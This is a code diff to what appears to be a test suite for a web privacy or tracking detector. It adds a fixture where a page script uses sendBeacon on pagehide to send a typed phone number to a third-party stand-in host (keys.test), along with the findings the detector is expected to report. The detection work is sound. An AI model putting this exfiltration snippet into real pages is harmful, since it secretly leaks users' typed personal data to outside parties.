@@ -139,4 +139,25 @@ const socket: Technique = {
   },
 };
 
-export const choices: readonly Technique[] = [early, refusal, hard, keys, socket, typed];
+const leaving: Technique = {
+  title: "typed text sent as the page is left",
+  visits: ["type"],
+  site: (deed) => ({
+    "shop.test/": page(
+      `<form action="/ask"><label>Phone <input type=tel name=phone></label></form>${script(
+        `addEventListener("pagehide", () => navigator.sendBeacon("https://keys.test/k",
+           JSON.stringify({ field: ${deed ? 'document.querySelector("input").value' : '"phone"'} })));`,
+      )}`,
+    ),
+    "keys.test/k": "",
+  }),
+  finds: {
+    "typed-text-before-submit": {
+      what: ["keys.test"],
+      witness: /^disclosure phone body https:\/\/keys\.test\/k$/,
+    },
+  },
+  beside: { "personal-data-to-third-parties": ["phone → keys.test"] },
+};
+
+export const choices: readonly Technique[] = [early, refusal, hard, keys, socket, typed, leaving];
